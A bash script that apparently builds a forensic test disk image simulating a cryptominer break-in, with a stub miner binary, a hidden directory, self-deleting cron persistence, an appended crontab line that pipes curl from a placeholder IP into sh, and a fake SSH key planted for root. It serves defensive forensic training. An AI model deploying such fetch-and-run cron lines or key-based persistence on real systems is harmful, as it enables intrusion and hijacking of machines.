#!/usr/bin/env bash
# shellcheck disable=SC2016 # the crontab header contains a dollar sign
# Makes deleted-miner.qcow2: a server copied while a miner ran on it whose program is deleted. Usage: make.sh [OUTPUT], as root with loop devices and ext4:
# only a kernel writes a journal. So the result is not the same byte for byte when made again; the story and expected.json hold all the same.
# Nothing here works as malware: the program exits at once, hosts are under .invalid or in the documentation address ranges, the key is made up.

set -euo pipefail
here=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd -P)
# shellcheck source=samples/tools/tree.sh
. "$here/../tools/tree.sh"
# shellcheck source=samples/tools/base.sh
. "$here/../tools/base.sh"

# shellcheck disable=SC2034 # used by base.sh
HOST=web-03 MACHINE_ID=dead0000dead0000dead0000dead0000
base_tree

MINER=/var/tmp/.netd/netd-helper
strings=()
while IFS= read -r text; do strings+=("--string=$text"); done <<'END'
XMRig 6.21.0
Usage: xmrig [OPTIONS]
donate.v2.xmrig.com
donate-level
max-threads-hint
huge-pages-jit
randomx-1gb-pages
rx/0
cn/r
randomx
cryptonight
stratum+tcp://
"method":"login"
job_id
hashrate
FAILED TO APPLY MSR MOD, HASHRATE WILL BE LOW
sample: this file only exits
END
python3 "$TOOLS/elf.py" "$WORK/miner" --kind static "${strings[@]}"

KEY=$(python3 -c '
import base64, struct
parts = [b"ssh-rsa", b"\1\0\1", b"\0" + b"\xc5" + (b"deadbox sample key, belongs to nobody. " * 7)[:254] + b"\1"]
print("ssh-rsa", base64.b64encode(b"".join(struct.pack(">I", len(p)) + p for p in parts)).decode(), "mdrfckr")')

# Called by disk with the finished file system: the break-in, on the running host.
live() {
  local root=$WORK/mounted
  mkdir "$root"
  mount -o loop,noatime "$1" "$root"
  trap 'exec 9<&-; umount "$root"; rm -rf -- "$WORK"' EXIT

  # The first stage, long enough ago that everything has reached its place on the disk.
  mkdir -m 755 "$root/var/tmp/.netd"
  install -m 755 "$WORK/miner" "$root$MINER"
  printf 'SHELL=/bin/sh\n@reboot root %s --daemon >/dev/null 2>&1\n' "$MINER" >"$root/etc/cron.d/netd"
  sync -f "$root"

  # The miner runs (here: is held open) and removes its own program; then the cron file that started it goes.
  exec 9<"$root$MINER"
  rm "$root$MINER"
  sync "$root/var/tmp/.netd"
  rm "$root/etc/cron.d/netd"
  sync "$root/etc/cron.d"

  # The newest: a line in an existing crontab and a key, synced one by one, so that they are in the journal and nowhere else. syncfs would write them to their places.
  printf '*/10 * * * * curl -fsSL http://203.0.113.66/n.sh | sh >/dev/null 2>&1\n' >>"$root/var/spool/cron/crontabs/www-data"
  sync "$root/var/spool/cron/crontabs/www-data"
  printf '%s\n' "$KEY" >>"$root/root/.ssh/authorized_keys"
  sync "$root/root/.ssh/authorized_keys"

  # The snapshot: the backing file as it is now, with the file system still mounted.
  cp --sparse=always "$1" "$1.snapshot"
  exec 9<&-
  umount "$root"
  trap 'rm -rf -- "$WORK"' EXIT
  mv -f -- "$1.snapshot" "$1"
}

disk "${1:-$here/deleted-miner.qcow2}" 33
